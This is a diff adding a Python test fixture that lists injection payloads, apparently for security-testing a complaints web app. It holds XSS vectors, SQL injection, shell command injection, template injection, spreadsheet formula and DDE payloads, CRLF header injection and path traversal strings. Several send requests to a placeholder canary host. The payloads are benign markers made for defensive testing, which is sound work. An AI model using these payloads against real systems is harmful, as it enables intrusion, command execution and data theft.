@@ -1,0 +1,145 @@
+"""Text that would do something, were it read as anything but text.
+
+In each, KANARIE is an address that somebody listens on, FIL a file of the server with a secret in it.
+"""
+
+from __future__ import annotations
+
+HTML = (
+    "<script>window.__ramt=1</script>",
+    "<script src=KANARIE/a.js></script>",
+    "</title><script>window.__ramt=1</script>",
+    "</textarea><script>window.__ramt=1</script>",
+    "</option></select><script>window.__ramt=1</script>",
+    "</script><script>window.__ramt=1</script>",
+    "--><script>window.__ramt=1</script><!--",
+    "<![CDATA[<script>window.__ramt=1</script>]]>",
+    "<img src=x onerror=window.__ramt=1>",
+    "<img src=KANARIE/b.png>",
+    "<img srcset='KANARIE/c.png 1x'>",
+    "<IMG SRC=x OnErRoR=window.__ramt=1//",
+    "<svg onload=window.__ramt=1>",
+    "<svg><script>window.__ramt=1</script></svg>",
+    "<svg><image href=KANARIE/d.png /></svg>",
+    "<svg><use href='KANARIE/e.svg#x'/></svg>",
+    "<svg><animate onbegin=window.__ramt=1 attributeName=x dur=1s>",
+    "<svg><foreignObject><iframe src=KANARIE/f></iframe></foreignObject></svg>",
+    "<math><mtext><img src=x onerror=window.__ramt=1></mtext></math>",
+    "<iframe src=KANARIE/g></iframe>",
+    "<iframe srcdoc='<script>parent.__ramt=1</script>'></iframe>",
+    "<object data=KANARIE/h></object>",
+    "<embed src=KANARIE/i>",
+    "<video src=KANARIE/j autoplay></video>",
+    "<audio src=KANARIE/k autoplay></audio>",
+    "<body onload=window.__ramt=1>",
+    "<details open ontoggle=window.__ramt=1>x</details>",
+    "<input autofocus onfocus=window.__ramt=1>",
+    "<marquee onstart=window.__ramt=1>x</marquee>",
+    "<base href=KANARIE/>",
+    "<meta http-equiv=refresh content='0;url=KANARIE/l'>",
+    "<link rel=stylesheet href=KANARIE/m.css>",
+    "<link rel=attachment href=FIL>",
+    "<a rel=attachment href=FIL>x</a>",
+    "<form action=KANARIE/n><button>x</button></form>",
+    "<template><script>window.__ramt=1</script></template>",
+    "<noscript><img src=x onerror=window.__ramt=1></noscript>",
+    "<xss-a style=x onclick=window.__ramt=1>x</xss-a>",
+    "<b>fed</b><i>kursiv</i><u>streg</u>",
+    "<%= 7*7 %><? echo 1 ?>",
+    "&lt;script&gt;window.__ramt=1&lt;/script&gt;",
+    "&#60;script&#62;window.__ramt=1&#60;/script&#62;",
+    "\\u003cscript\\u003ewindow.__ramt=1\\u003c/script\\u003e",
+    "＜script＞window.__ramt=1＜/script＞",
+)
+ATTRIBUTTER = (
+    '" onmouseover="window.__ramt=1" x="',
+    "' onmouseover='window.__ramt=1' x='",
+    '" autofocus onfocus=window.__ramt=1 x="',
+    "` onmouseover=window.__ramt=1 `",
+    '"><script>window.__ramt=1</script>',
+    "'><script>window.__ramt=1</script>",
+    '" style="background:url(KANARIE/o)" x="',
+    '"><img src=KANARIE/p.png>',
+    "javascript:window.__ramt=1",
+    "JaVaScRiPt&colon;window.__ramt=1",
+    "data:text/html,<script>window.__ramt=1</script>",
+    "vbscript:msgbox(1)",
+    "//KANARIE/q",
+    "/\\KANARIE/r",
+    "KANARIE/s",
+    "FIL",
+    '" hx-get="KANARIE/t" hx-trigger="load" x="',
+    '" data-url="KANARIE/u" x="',
+)
+STIL = (
+    "<style>@import url(KANARIE/v.css);</style>",
+    '"><style>@import "FIL";</style>',
+    "<style>*{background:url(KANARIE/x.png)}</style>",
+    "</style><script>window.__ramt=1</script>",
+    "<p style='background:url(FIL)'>x</p>",
+    "<style>@font-face{font-family:x;src:url(KANARIE/y)}*{font-family:x}</style>",
+    "expression(window.__ramt=1)",
+    "}*{color:red;background:url(KANARIE/z)",
+)
+SKABELONER = (
+    "{{ 7*7 }}",
+    "{% debug %}",
+    "{% load static %}{% include 'base.html' %}",
+    "{{ request.user.password }}",
+    "{# skjult #}",
+    "${7*7}#{7*7}*{7*7}",
+    "%(navn)s %s {navn} {0.__class__}",
+    "__import__('os').system('true')",
+    "'; DROP TABLE klager_klage; --",
+    '" OR ""="',
+    "$(touch /tmp/ramt)`touch /tmp/ramt`",
+    "| touch /tmp/ramt ;",
+)
+FORMLER = (
+    "=1+1",
+    '=HYPERLINK("KANARIE/aa";"y")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("KANARIE/ab")',
+    "='[FIL]Ark1'!A1",
+    '=IMPORTXML(CONCAT("KANARIE/ac"),"//a")',
+    "+1+1",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "@A1",
+    '"=1+1"',
+    "'=1+1",
+    "=",
+    '=DDE("cmd";"/C calc";"x")',
+    ";=1+1",
+    ",=1+1",
+)
+LINJER = (
+    "x\r\nBcc: kanarie@test.invalid",
+    "x\nSubject: kanarie",
+    "x\r\n\r\n<script>window.__ramt=1</script>",
+    "x%0d%0aSet-Cookie: ramt=1",
+    "x\u2028window.__ramt=1",
+    "x\r=1+1",
+    "\t=1+1",
+    "\r\n=1+1",
+    '{"niveau": "INFO"}\n{"besked": "falsk"}',
+)
+STIER = (
+    "../../../../etc/hostname",
+    "..%2f..%2fetc%2fhostname",
+    "..\\..\\x.csv",
+    "/etc/hostname",
+    "\u202egnp.exe",
+    "a\u0000b.csv"[:1] + "/../b.csv",
+    "con.csv:strøm",
+    "%2e%2e/%2e%2e/",
+)
+ANGREB = (*HTML, *ATTRIBUTTER, *STIL, *SKABELONER, *FORMLER, *LINJER, *STIER)
+
+
+def med(kanarie: str, fil: str) -> list[str]:
+    """Each with a number at its end, by which it is known again."""
+    tekster = [tekst.replace("KANARIE", kanarie).replace("FIL", fil) for tekst in ANGREB]
+    return [f"{tekst} #{nr:03d}#" for nr, tekst in enumerate(tekster)]
